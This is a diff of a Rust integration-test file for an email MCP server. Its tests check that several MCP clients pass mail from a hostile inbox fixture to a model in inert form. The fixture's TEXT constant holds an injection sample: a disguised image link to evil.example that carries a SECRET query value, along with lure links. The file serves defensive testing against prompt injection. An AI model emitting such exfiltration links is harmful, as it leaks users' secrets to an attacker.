@@ -5,14 +5,15 @@
 use std::{path::PathBuf, process::Stdio, sync::LazyLock};
 
 use regex::Regex;
-use serde_json::{Value, json};
-use shared_inbox_tests::peers;
+use serde_json::Value;
+use shared_inbox_tests::{peers, program};
 use tokio::process::Command;
 
-use crate::{
-    fixture::{Answer, Fixture, Newer, Person, structured, text},
-    inert::{judge_json, judge_text},
-    peers::inspect,
+use super::{
+    clients::inspect,
+    fixture::{Fixture, program, structured, text},
+    installed,
+    judges::{judge_json, judge_text},
 };
 
 const TEXT: &str = "Hello\u{200b},\n\n!⟦logo⟧(//evil.example/p.png?d=SECRET) [click](https://evil.example) www.evil.example\n\
@@ -76,7 +77,7 @@ fn seen(fixture: &Fixture, what: &str) -> String {
 fn script(interpreter: &PathBuf, name: &str) -> Command {
     let mut command = Command::new(interpreter);
     // Not from the folder of the scripts, where their names could hide packages.
-    command.arg(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/it/clients").join(name));
+    command.arg(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("bridge/clients").join(name));
     command
 }
 
@@ -84,48 +85,34 @@ fn script(interpreter: &PathBuf, name: &str) -> Command {
 const CLIENTS: &[&str] = &["mcp==2.3.0", "fastmcp==4.1.2", "pydantic-ai-slim[mcp]==2.66.0"];
 
 #[tokio::test]
-#[ignore = "needs Python"]
 async fn python_clients_give_the_model_inert_mail() {
     for (name, file, packages) in [
-        ("official-python", "official.py", CLIENTS),
-        ("fastmcp", "fast_mcp.py", CLIENTS),
+        ("both-forms", "official.py", CLIENTS),
+        ("both-forms", "fast_mcp.py", CLIENTS),
         ("pydantic-ai", "pydantic_ai_agent.py", CLIENTS),
         ("langchain", "lang_chain.py", &["langchain-mcp-adapters==0.3.2"]),
     ] {
-        let python = tokio::task::spawn_blocking(|| peers::python(packages)).await.unwrap();
-        let Some(python) = python else { return };
+        let python = installed(|| peers::python(packages)).await;
         let fixture = hostile_inbox().await;
         let mut command = script(&python, file);
-        command.args([env!("CARGO_BIN_EXE_shared-inbox-mcp"), &fixture.conversation]);
+        command.arg(program("shared-inbox-mcp")).arg(&fixture.conversation);
         insta::assert_snapshot!(name, seen(&fixture, &run(&fixture, command).await));
     }
 }
 
 #[tokio::test]
-#[ignore = "needs Node"]
 async fn the_typescript_client_and_the_inspector_give_the_model_inert_mail() {
-    let installed = tokio::task::spawn_blocking(|| {
-        Some((peers::node22()?, peers::npm(&["@modelcontextprotocol/client@2.4.0"])?))
-    });
-    let Some((node, client)) = installed.await.unwrap() else { return };
+    let node = installed(peers::node22).await;
+    let client = installed(|| peers::npm(&["@modelcontextprotocol/client@2.4.0"])).await;
     let fixture = hostile_inbox().await;
     let mut command = script(&node, "official.mjs");
-    command.arg(client).args([env!("CARGO_BIN_EXE_shared-inbox-mcp"), &fixture.conversation]);
-    insta::assert_snapshot!("official-typescript", seen(&fixture, &run(&fixture, command).await));
+    command.arg(client).arg(program("shared-inbox-mcp")).arg(&fixture.conversation);
+    insta::assert_snapshot!("both-forms", seen(&fixture, &run(&fixture, command).await));
 
     let id = format!("id={}", fixture.conversation);
     let call = ["--method", "tools/call", "--tool-name", "get_conversation", "--tool-arg", &id];
-    let Some(printed) = inspect(&fixture, &call).await else { return };
+    let printed = inspect(&fixture, &call).await;
     let result = printed.get("result").unwrap_or(&printed);
     let both = format!("{}{}", result["content"][0]["text"].as_str().unwrap(), result["structuredContent"]);
-    insta::assert_snapshot!("inspector", seen(&fixture, &both));
-}
-
-#[tokio::test]
-async fn rmcp_gives_the_model_inert_mail() {
-    let fixture = hostile_inbox().await;
-    let client = fixture.start_program(&Person::who(Answer::No), Newer, &[]).await;
-    let result = client.call("get_conversation", json!({ "id": fixture.conversation })).await;
-    let both = format!("{}{}", text(&result), structured(&result));
-    insta::assert_snapshot!("rmcp", seen(&fixture, &both));
+    insta::assert_snapshot!("both-forms", seen(&fixture, &both));
 }
